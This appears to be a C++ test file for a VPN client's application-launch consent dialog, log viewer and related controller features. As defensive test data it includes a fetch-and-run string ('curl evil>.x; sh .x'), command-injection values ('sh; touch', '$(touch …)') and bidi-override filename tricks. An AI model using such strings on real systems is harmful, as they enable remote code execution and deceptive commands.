// The browser controller's application launch, log view, connection details,
// log level and power notes. No program is started: the launcher is replaced.

#include "shell/BrowserController.h"
#include "shell/BrowserControllerApps.h"
#include "shell/ShellTestSeam.h"

#include "ChildState.h"
#include "ModalDialogAnswerer.h"
#include "RecordingLog.h"
#include "foundation/UClasses.h"
#include "tunnel/ResourceType.h"

#include <QApplication>
#include <QDir>
#include <QFile>
#include <QLabel>
#include <QMessageBox>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTimer>

#include <gtest/gtest.h>

#include <csignal>
#include <cstdlib>
#include <fstream>
#include <functional>
#include <memory>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

using tessal::AppLaunchConfig;
using tessal::AppLaunchRequest;
using tessal::qt::BrowserController;
using tessal::qt::ShellTestSeam;
using tessal::test::ModalDialogAnswerer;
using tessal::test::RecordingLog;

namespace {

// Records the commands instead of running them.
struct RecordingLauncher {
    RecordingLauncher()
    {
        tessal::qt::ShellTestSeam::replaceAppLauncher([this](const std::string& command) {
            commands.push_back(command);
            return static_cast<pid_t>(4242);
        });
    }
    ~RecordingLauncher() { tessal::qt::ShellTestSeam::replaceAppLauncher(nullptr); }
    std::vector<std::string> commands;
};

// Calls back with each message box as it is shown.
class ShownBoxes final : public QObject
{
public:
    explicit ShownBoxes(std::function<void(QMessageBox*)> seen) : seen(std::move(seen))
    {
        qApp->installEventFilter(this);
    }
    bool eventFilter(QObject* watched, QEvent* event) override
    {
        if (event->type() == QEvent::Show)
            if (auto* box = qobject_cast<QMessageBox*>(watched))
                seen(box);
        return false;
    }

private:
    std::function<void(QMessageBox*)> seen;
};

TEST(AppLaunchTest, AskMatrix)
{
    // A program that is surely missing, whatever the host has installed.
    QTemporaryDir dir;
    const std::string app = dir.filePath("app").toStdString();
    const std::vector<AppLaunchRequest> apps = {{app, "--host <b>127.0.0.1</b> %2"}, {"\"/opt/My App/run\"", ""}};
    struct Case {
        bool trusted;
        bool showWarning;
        const char* answer;
        bool asked;
        bool launched;
    };
    const Case cases[] = {
        {true, false, "OK", false, true}, // trusted, no warning: no question
        {true, true, "OK", true, true},        {true, true, "Cancel", true, false}, {false, false, "OK", true, true},
        {false, false, "Cancel", true, false}, {false, true, "OK", true, true},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(std::to_string(c.trusted) + std::to_string(c.showWarning) + c.answer);
        RecordingLauncher launcher;
        ModalDialogAnswerer answerer(c.answer);
        // How the box shows its text, seen as it is shown: before any timer
        // of the answerer's can close it.
        int format = -1, defaultButton = -1;
        ShownBoxes look([&](QMessageBox* box) {
            format = box->textFormat();
            defaultButton = box->standardButton(box->defaultButton());
        });
        RecordingLog log;
        EXPECT_EQ(c.launched, tessal::qt::launchWithConsent(AppLaunchConfig{apps, c.showWarning}, c.trusted, "Intro:"));
        ASSERT_EQ(c.asked ? 1 : 0, answerer.count());
        if (c.asked) {
            // Everything that will run, whole and as plain text.
            EXPECT_EQ(QString::fromUtf8(("Intro:\n\u2022 " + app +
                                         " --host <b>127.0.0.1</b> %2\n"
                                         "\u2022 \"/opt/My App/run\" \n")
                                            .c_str()),
                      answerer.last().text);
            EXPECT_EQ(Qt::PlainText, format);
            EXPECT_EQ(QMessageBox::Cancel, defaultButton);
        }
        const std::vector<std::string> commands = {app + " --host <b>127.0.0.1</b> %2", "\"/opt/My App/run\" "};
        EXPECT_EQ(c.launched ? commands : std::vector<std::string>{}, launcher.commands);
        EXPECT_EQ(c.launched ? 1 : 0,
                  log.withMessage(
                         QString::fromStdString("Launched '" + app + "', args: --host <b>127.0.0.1</b> %2, pid=4242"))
                      .size());
        EXPECT_EQ(c.launched ? 1 : 0,
                  log.withMessage(QString::fromStdString("Looks like app \"" + app +
                                                         "\" doesn't exist, please check resource configuration"))
                      .size());
    }
}

// Characters that reorder or hide part of a command read as escapes in the
// question; the command itself runs as the server sent it.
TEST(AppLaunchTest, ConsentShowsHiddenCharactersAsEscapes)
{
    const std::pair<const char*, const char*> cases[] = {
        {"--name \u202Etxt.exe", "--name \\u202Etxt.exe"},
        {"\u202A\u202B\u202C\u202D\u2066\u2067\u2068\u2069",
         "\\u202A\\u202B\\u202C\\u202D\\u2066\\u2067\\u2068\\u2069"},
        {"\u200E\u200F\u061C zero\u200Bwidth\u200C\u200D\u2060\uFEFF",
         "\\u200E\\u200F\\u061C zero\\u200Bwidth\\u200C\\u200D\\u2060\\uFEFF"},
        {"-x\n\u2022 /bin/true \t\r\x1b[8m\x7f\u0085\u2028\u2029\U000E0041",
         "-x\\u000A\u2022 /bin/true \\u0009\\u000D\\u001B[8m\\u007F\\u0085\\u2028\\u2029\\uE0041"},
        {"caf\u00E9 \u65E5\u672C \u0639\u0631\u0628\u064A \\u202E",
         "caf\u00E9 \u65E5\u672C \u0639\u0631\u0628\u064A \\u202E"},
    };
    std::vector<AppLaunchRequest> apps;
    QString shown = "Intro:\n";
    std::vector<std::string> commands;
    for (const auto& c : cases) {
        apps.push_back({"/opt/app\u202E", c.first});
        shown += QString::fromUtf8("\u2022 /opt/app\\u202E ") + QString::fromUtf8(c.second) + "\n";
        commands.push_back(std::string("/opt/app\u202E ") + c.first);
    }
    RecordingLauncher launcher;
    ModalDialogAnswerer answerer("OK");
    EXPECT_TRUE(tessal::qt::launchWithConsent(AppLaunchConfig{apps, true}, true, "Intro:"));
    ASSERT_EQ(1, answerer.count());
    EXPECT_EQ(shown, answerer.last().text);
    EXPECT_EQ(commands, launcher.commands);
    EXPECT_EQ("Resource 'a\\u202Eb' is already running, do you want to relaunch associated local application(s):",
              BrowserController::launchQuestionText("https://x", QString::fromUtf8("a\u202Eb"), true, true));
    EXPECT_EQ("Website 'https://x/\\u2066' is attempting to run a local application(s):",
              BrowserController::launchQuestionText(QString::fromUtf8("https://x/\u2066"), "a", false, true));
}

TEST(AppLaunchTest, ProgramLookupRunsNothing)
{
    QTemporaryDir dir;
    const std::string folder = dir.path().toStdString();
    QFile(dir.filePath("plain")).open(QIODevice::WriteOnly);
    const QByteArray savedPath = qgetenv("PATH");
    qputenv("PATH", QByteArray("/nonexistent::") + folder.c_str() + ":/bin:/usr/bin");
    const std::pair<std::string, bool> cases[] = {
        {"/bin/sh", true},
        {"sh", true},
        {"\"/bin/sh\"", true},
        {"/bin", false},
        {"plain", false},
        {folder + "/plain", false},
        {"no-such-program", false},
        {"", false},
        {"sh; touch " + folder + "/made", false},
        {"$(touch " + folder + "/made)", false},
    };
    for (const auto& c : cases)
        EXPECT_EQ(c.second, BrowserController::appExistsInPath(AppLaunchRequest{c.first, "-x"})) << c.first;
    qputenv("PATH", savedPath);
    // Nothing ran and nothing was left behind.
    EXPECT_EQ(QStringList{"plain"}, QDir(dir.path()).entryList(QDir::Files));
}

// A fake xdg-open first in PATH: it appends its argument to a list and, when
// asked, writes down what it inherited.
struct FakeOpener {
    explicit FakeOpener(bool recordState = false) : savedPath(qgetenv("PATH"))
    {
        const std::string folder = dir.path().toStdString();
        std::ofstream(folder + "/xdg-open")
            << "#!/bin/sh\n"
            << (recordState ? tessal::test::childStateCommand(folder + "/state") + "\n" : std::string())
            << "printf '%s\\n' \"$1\" >> '" << folder << "/opened'\n";
        ::chmod((folder + "/xdg-open").c_str(), 0755);
        qputenv("PATH", dir.path().toUtf8() + ":" + savedPath);
    }
    ~FakeOpener() { qputenv("PATH", savedPath); }
    QStringList opened() const
    {
        QFile file(dir.filePath("opened"));
        return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()).split('\n', Qt::SkipEmptyParts)
                                              : QStringList();
    }
    // True once count opens were recorded; the opener runs detached.
    bool waitFor(int count) const
    {
        return QTest::qWaitFor([&] { return opened().size() >= count; }, 20000) && opened().size() == count;
    }
    QTemporaryDir dir;
    QByteArray savedPath;
};

// A home folder of the test's own (tests run in parallel and share HOME), with an empty log.
struct OwnHome {
    OwnHome() : saved(qgetenv("HOME"))
    {
        qputenv("HOME", dir.path().toUtf8());
        QDir().mkpath(dir.path() + "/.TessalNetworks");
        QFile(log).open(QIODevice::WriteOnly);
    }
    ~OwnHome() { qputenv("HOME", saved); }
    QTemporaryDir dir;
    QByteArray saved;
    const QString log = dir.path() + "/.TessalNetworks/vpn.log";
};

TEST(AppLaunchTest, ShowLogAsksAtTheHundredthRequest)
{
    OwnHome home;
    FakeOpener opener;
    RecordingLog log;
    BrowserController controller;
    ModalDialogAnswerer answerer(QStringList{"Cancel", "OK"});
    for (int i = 1; i <= 99; ++i)
        controller.showLogFileReq();
    EXPECT_EQ(0, answerer.count());
    ASSERT_TRUE(opener.waitFor(99));
    EXPECT_EQ(QUrl::fromLocalFile(home.log).toEncoded(), opener.opened().last());

    controller.showLogFileReq(); // the 100th: Cancel opens nothing
    EXPECT_EQ(1, answerer.count());
    EXPECT_EQ("\"Show log file\" link was clicked too many times. Do you want to continue?", answerer.last().text);
    EXPECT_EQ(1, log.withMessage("User clicked \"show log file\" more than 100 time(s)").size());
    controller.showLogFileReq(); // asks again; Ok opens and starts counting anew
    EXPECT_EQ(2, answerer.count());
    EXPECT_TRUE(opener.waitFor(100));
    for (int i = 1; i <= 99; ++i)
        controller.showLogFileReq();
    EXPECT_EQ(2, answerer.count());
    EXPECT_TRUE(opener.waitFor(199));
}

TEST(AppLaunchTest, OnlyTheUsersOwnRegularLogIsOpened)
{
    const std::pair<const char*, std::function<void(const QString&)>> cases[] = {
        {"symbolic link",
         [](const QString& log) {
             QFile::remove(log);
             QFile::link(QDir::homePath() + "/other.log", log);
         }},
        {"folder", [](const QString& log) { QFile::remove(log), QDir().mkpath(log); }},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.first);
        OwnHome home;
        c.second(home.log);
        FakeOpener opener;
        RecordingLog log;
        BrowserController().showLogFileReq();
        QTest::qWait(200);
        EXPECT_EQ(0, opener.opened().size());
        EXPECT_EQ(
            1, log.withMessage("Log file " + home.log + " is not a regular file of the user, not opening it").size());
    }
    if (::geteuid() == 0) {
        OwnHome home;
        ASSERT_EQ(0, ::chown(home.log.toUtf8().constData(), 65534, 65534));
        FakeOpener opener;
        BrowserController().showLogFileReq();
        QTest::qWait(200);
        EXPECT_EQ(0, opener.opened().size());
    }
}

// Root with HOME in the folder of uid 65534: the handler the home's owner
// chose runs as the owner of the log's folder (decided on the folder as
// opened) with an environment made for that user, and not at all when that
// folder is root's, reached by a link or renamed into the home.
TEST(AppLaunchTest, RootShowsTheLogOnlyAsTheOwnerOfItsFolder)
{
    if (::geteuid() != 0)
        GTEST_SKIP() << "needs root";
    QTemporaryDir tools;
    const QString record = tools.filePath("record");
    std::ofstream(tools.filePath("xdg-open").toStdString())
        << "#!/bin/sh\n{ id -u; tr '\\0' '\\n' < /proc/$$/environ; } > '" << record.toStdString() << "'\n";
    ::chmod(tools.path().toUtf8().constData(), 0777);
    ::chmod(tools.filePath("xdg-open").toUtf8().constData(), 0755);
    const QByteArray savedPath = qgetenv("PATH");
    qputenv("PATH", tools.path().toUtf8() + ":" + savedPath);
    qputenv("TESSAL_ROOTS_OWN", "secret");
    QTemporaryDir rootOnly;
    QFile(rootOnly.filePath("vpn.log")).open(QIODevice::WriteOnly);
    const auto shell = [](const QString& command) { ASSERT_EQ(std::system(command.toUtf8().constData()), 0); };
    const struct {
        const char* name;
        std::function<void(const QString& folder)> make;
        const char* uid; // of the handler, or empty: not started
        const char* record;
    } rows[] = {
        {"the user's folder", [&](const QString& f) { shell("chown -R 65534:65534 '" + f + "'"); }, "65534", nullptr},
        {"a link to root's folder",
         [&](const QString& f) {
             QDir(f).removeRecursively();
             ASSERT_TRUE(QFile::link(rootOnly.path(), f));
         },
         "", "Log file %1 is not a regular file of the user, not opening it"},
        {"a renamed folder of root's", [](const QString&) {}, "", "No user to open log file %1 as, not opening it"},
    };
    for (const auto& row : rows) {
        SCOPED_TRACE(row.name);
        OwnHome home;
        ::chmod(home.dir.path().toUtf8().constData(), 0755);
        ::chown(home.dir.path().toUtf8().constData(), 65534, 65534);
        row.make(home.dir.path() + "/.TessalNetworks");
        QFile::remove(record);
        RecordingLog log;
        BrowserController().showLogFileReq();
        if (row.uid[0] == '\0') {
            QTest::qWait(500);
            EXPECT_FALSE(QFile::exists(record));
            EXPECT_EQ(1, log.withMessage(QString(row.record).arg(home.log)).size()) << log.text();
            continue;
        }
        const bool ran = QTest::qWaitFor([&] { return QFile(record).size() > 0; }, 10000);
        EXPECT_TRUE(ran) << log.text();
        if (!ran)
            continue;
        QTest::qWait(100);
        QFile file(record);
        ASSERT_TRUE(file.open(QIODevice::ReadOnly));
        const QStringList lines = QString::fromUtf8(file.readAll()).split('\n');
        EXPECT_EQ(lines.first(), row.uid);
        EXPECT_TRUE(lines.contains("HOME=/nonexistent") && lines.contains("USER=nobody"))
            << lines.join(' ').toStdString();
        EXPECT_TRUE(lines.filter("TESSAL_ROOTS_OWN").isEmpty()) << lines.join(' ').toStdString();
    }
    qputenv("PATH", savedPath);
    qunsetenv("TESSAL_ROOTS_OWN");
}

// The log viewer and the launched applications get nothing of this process
// but their standard descriptors, with every signal at its default; an
// application that has ended is reaped.
TEST(AppLaunchTest, ChildrenGetNothingOfOursAndEndedApplicationsAreReaped)
{
    OwnHome home;
    FakeOpener opener(true);
    const std::string app = opener.dir.filePath("app").toStdString();
    std::ofstream(app) << "#!/bin/sh\n" << tessal::test::childStateCommand(app + ".state") << "\n";
    ::chmod(app.c_str(), 0755);
    RecordingLog log;
    {
        tessal::test::StrayParentState stray;
        BrowserController().showLogFileReq();
        EXPECT_TRUE(tessal::qt::launchWithConsent(AppLaunchConfig{{{app, ""}}, false}, true, "Intro:"));
    }
    for (const std::string& state : {opener.dir.filePath("state").toStdString(), app + ".state"}) {
        const tessal::test::ChildState inherited = tessal::test::readChildState(state);
        EXPECT_TRUE(inherited.clean()) << state << ": " << inherited.fds;
    }
    const QString record = "Launched '" + QString::fromStdString(app) + "', args: , pid=";
    const QStringList launched = log.qLines().filter(record);
    ASSERT_EQ(1, launched.size()) << log.text();
    const QString pid = launched.first().mid(launched.first().indexOf(record) + record.size()).trimmed();
    EXPECT_TRUE(QTest::qWaitFor([&] { return !QFile::exists("/proc/" + pid); }, 10000)) << "left as a zombie";
}

// Launching an application leaves the process-wide SIGCHLD disposition as
// it was: a child that another part waits for still has its status to give.
TEST(AppLaunchTest, LaunchingLeavesOtherChildrenTheirExitStatus)
{
    OwnHome home;
    FakeOpener opener;
    const std::string app = opener.dir.filePath("quick").toStdString();
    std::ofstream(app) << "#!/bin/sh\nexit 0\n";
    ::chmod(app.c_str(), 0755);
    struct sigaction before {};
    ASSERT_EQ(0, ::sigaction(SIGCHLD, nullptr, &before));
    const pid_t other = ::fork();
    if (other == 0) {
        ::usleep(300000);
        ::_exit(7);
    }
    ASSERT_GT(other, 0);
    EXPECT_TRUE(tessal::qt::launchWithConsent(AppLaunchConfig{{{app, ""}}, false}, true, "Intro:"));
    int status = 0;
    EXPECT_EQ(other, ::waitpid(other, &status, 0)) << "the status was taken from its waiter";
    EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 7);
    struct sigaction after {};
    ::sigaction(SIGCHLD, nullptr, &after);
    EXPECT_EQ(after.sa_handler, before.sa_handler);
    ::sigaction(SIGCHLD, &before, nullptr);
}

// However long a command, and whatever the site, every character of the
// question can be seen before the user agrees: no text is clipped, and what
// does not fit scrolls into view.
TEST(AppLaunchTest, ConsentShowsEveryCharacterOfALongCommand)
{
    const std::string params = "--profile=" + std::string(2000, 'a') + ";curl\tevil>.x;sh\t.x";
    const QString site = "https://" + QString(250, 'h') + ".example";
    QStringList problems;
    QString shown;
    QTimer look;
    QObject::connect(&look, &QTimer::timeout, [&] {
        auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
        if (box == nullptr || !box->isVisible() || !shown.isEmpty())
            return;
        for (QLabel* label : box->findChildren<QLabel*>()) {
            if (!label->isVisible() || label->text().isEmpty())
                continue;
            shown += label->text();
            if (label->minimumSizeHint().width() > label->width())
                problems << "clipped: " + label->text().left(30);
        }
        for (QPlainTextEdit* view : box->findChildren<QPlainTextEdit*>()) {
            if (!view->isVisible())
                continue;
            shown += view->toPlainText();
            for (int at = 0, end = static_cast<int>(view->toPlainText().size()); at <= end;
                 at = at < end ? std::min(at + 97, end) : end + 1) {
                QTextCursor cursor(view->document());
                cursor.setPosition(at);
                view->setTextCursor(cursor);
                view->ensureCursorVisible();
                if (!view->viewport()->rect().contains(view->cursorRect().center()))
                    problems << "out of reach: " + QString::number(at);
            }
        }
    });
    look.start(0);
    RecordingLauncher launcher;
    ModalDialogAnswerer answerer("Cancel");
    EXPECT_FALSE(tessal::qt::launchWithConsent(AppLaunchConfig{{{"/opt/app", params}}, false}, false,
                                               BrowserController::launchQuestionText(site, "apps", false, false)));
    ASSERT_EQ(1, answerer.count());
    EXPECT_TRUE(problems.isEmpty()) << problems.join('\n').toStdString();
    EXPECT_TRUE(shown.contains(tessal::qt::visibleText(QString::fromStdString(params)))) << shown.toStdString();
    EXPECT_TRUE(shown.contains(site));
}

// Only a pressed Ok launches; a box ended any other way refuses.
TEST(AppLaunchTest, OnlyAPressedOkLaunches)
{
    const std::pair<const char*, std::function<void(QWidget*)>> endings[] = {
        {"OK", nullptr},
        {"Cancel", nullptr},
        {"closed by the window manager", [](QWidget* box) { box->close(); }},
        {"hidden", [](QWidget* box) { box->hide(); }},
        {"application quit", [](QWidget*) { QCoreApplication::exit(0); }}, // last: later loops would end at once
    };
    for (const auto& [how, end] : endings) {
        SCOPED_TRACE(how);
        ModalDialogAnswerer answerer(end ? "none" : how);
        QTimer outside;
        QObject::connect(&outside, &QTimer::timeout, [end = end] {
            if (QWidget* box = QApplication::activeModalWidget(); box != nullptr && end)
                end(box);
        });
        outside.start(0);
        RecordingLauncher launcher;
        const bool pressedOk = std::string(how) == "OK";
        EXPECT_EQ(pressedOk,
                  tessal::qt::launchWithConsent(AppLaunchConfig{{{"/opt/app", "-x"}}, false}, false, "Intro:"));
        EXPECT_EQ(pressedOk ? 1u : 0u, launcher.commands.size());
    }
}

// A tunnel that only answers the launch, detail and level calls.
class FakeTunnel : public TunnelInterface
{
public:
    int open(const std::string&) override { return 0; }
    int close() override { return 0; }
    bool isOpened() override { return true; }
    int checkStatus() override { return 0; }
    tessal::TunnelStats getTraffic() override { return {}; }
    UPropertyList getProperties() override { return properties; }
    std::vector<tessal::TunnelEndpoint> getResourceDetails() override { return {}; }
    AppLaunchConfig getLaunchConfig() override { return AppLaunchConfig{{{"/usr/bin/app", "-a"}}, false}; }
    void setLogLevel(int level) override { levels.push_back(level); }
    std::vector<int> levels;
    UPropertyList properties;
};

struct ControllerWithTunnel {
    ControllerWithTunnel()
    {
        ShellTestSeam::resourceManager(controller)
            .setControllerFactory([this](const tessal::qt::ResourceManager::ControllerRequest&) { return tunnel; });
        EXPECT_EQ(
            0, ShellTestSeam::resourceManager(controller).attachResource("/Common/apps", ResourceType::app_tunnel, ""));
    }
    BrowserController controller;
    std::shared_ptr<FakeTunnel> tunnel = std::make_shared<FakeTunnel>();
};

TEST(AppLaunchTest, LaunchSlotAsksWithTheResourceName)
{
    ControllerWithTunnel c;
    RecordingLauncher launcher;
    {
        ModalDialogAnswerer answerer("OK");
        c.controller.launchApplicationsMayBeAsk("/Common/apps", true);
        ASSERT_EQ(1, answerer.count());
        EXPECT_EQ(QString::fromUtf8("Resource 'apps' is already running, do you want to relaunch associated local "
                                    "application(s):\n\u2022 /usr/bin/app -a\n"),
                  answerer.last().text);
        EXPECT_EQ(std::vector<std::string>{"/usr/bin/app -a"}, launcher.commands);
    }
    EXPECT_EQ("Website 'https://a.example' is attempting to run a local application(s):",
              BrowserController::launchQuestionText("https://a.example", "apps", false, true));
    EXPECT_EQ("Website 'https://a.example' which is not in your Trusted Sites List is attempting to run a local "
              "application(s):",
              BrowserController::launchQuestionText("https://a.example", "apps", false, false));
    // A look-alike server name is shown in ASCII form.
    EXPECT_EQ("Website 'https://vpn.xn--exmple-4nf.com:8443' is attempting to run a local application(s):",
              BrowserController::launchQuestionText(QString::fromUtf8("https://vpn.ex\xd0\xb0mple.com:8443"), "apps",
                                                    false, true));
    // An unknown resource: recorded, no question, nothing launched.
    RecordingLog log;
    ModalDialogAnswerer answerer("OK");
    c.controller.launchApplicationsMayBeAsk("/Common/none");
    EXPECT_EQ(0, answerer.count());
    EXPECT_EQ(1u, launcher.commands.size());
    EXPECT_TRUE(
        log.contains("EXCEPTION caught: Failed to retrieve applications to launch for the resource /Common/none"));
}

TEST(AppLaunchTest, ConnectionDetailsIgnoreCaseAndComeReversed)
{
    UPropertyList properties;
    properties.setValue("tunnelport", "443");
    properties.setValue("TUNNELTRANSPORTPROTO", "DTLS");
    properties.setValue("TunnelTransportSecurityHashAlgo", "SHA384");
    properties.setValue("x-vpn-client-ip", "10.0.0.7");
    properties.setValue("Unrelated", "x");
    EXPECT_EQ((QStringList{"443", "DTLS", "", "", "SHA384", "", "", "10.0.0.7", ""}),
              tessal::qt::connectionDetails(properties));

    // Through the page bridge: an application-tunnel window sends nothing,
    // a network-access one the details of its main resource.
    ControllerWithTunnel apps;
    BrowserController na;
    auto tunnel = std::make_shared<FakeTunnel>();
    tunnel->properties.setValue("TunnelPort", "8443");
    tunnel->properties.setValue("X-VPN-client-IPv6", "fd00::7");
    ShellTestSeam::resourceManager(na).setControllerFactory(
        [&](const tessal::qt::ResourceManager::ControllerRequest&) { return tunnel; });
    tessal::qt::SessionInfo info;
    info.url = QUrl("http://127.0.0.1:9/");
    info.sessionId = "0123456789abcdef";
    info.resourceName = "/Common/na";
    info.resourceType = "network_access";
    na.start(info);
    ASSERT_EQ(0, ShellTestSeam::resourceManager(na).attachResource("/Common/na", ResourceType::network_access, ""));
    for (BrowserController* controller : {&apps.controller, &na}) {
        QSignalSpy details(&ShellTestSeam::webBridge(*controller), &tessal::qt::VpnWebBridge::onConnectionDetails);
        // As when the page shows the server's document (no page is loaded here).
        ShellTestSeam::webBridge(*controller).blockSignals(false);
        controller->tunnelInfoReq();
        ASSERT_EQ(controller == &na ? 1 : 0, details.count());
        if (controller == &na) {
            EXPECT_EQ((QVariantList{"8443", "", "", "", "", "", "", "", "fd00::7"}), details.first());
        }
    }
}

TEST(AppLaunchTest, LogLevelsOutsideTheRangeAreRefused)
{
    for (const int level : {30, 31, 63, 127, 128}) {
        SCOPED_TRACE(level);
        const bool accepted = level >= 31 && level <= 127;
        ControllerWithTunnel c;
        RecordingLog log(ULOG_LEVEL_EXTENDED);
        c.controller.onToggleLogSettings(level);
        EXPECT_EQ(accepted ? level : ULOG_LEVEL_EXTENDED, log.getLogLevel());
        EXPECT_EQ(accepted ? std::vector<int>{level} : std::vector<int>{}, c.tunnel->levels);
        EXPECT_EQ(accepted ? 0 : 1, log.withMessage(QString("Wrong log level suggested (%1)").arg(level)).size());
    }
}

TEST(AppLaunchTest, PowerNotes)
{
    const std::pair<int, const char*> cases[] = {{1, "Power notifiication, system goes to state 'Awake'"},
                                                 {7, "Power notifiication, system goes to state 'Unknown'"},
                                                 {0, "System goes to sleep, tearing down..."}};
    for (const auto& c : cases) {
        RecordingLog log;
        BrowserController controller;
        QSignalSpy closed(&controller, SIGNAL(realCloseMainWindow()));
        controller.OnNotification(static_cast<tessal::PowerManagment::Enum>(c.first));
        EXPECT_EQ(1, log.withMessage(c.second).size()) << log.text();
        EXPECT_EQ(c.first == 0 ? 1 : 0, closed.count());
    }
}

} // namespace
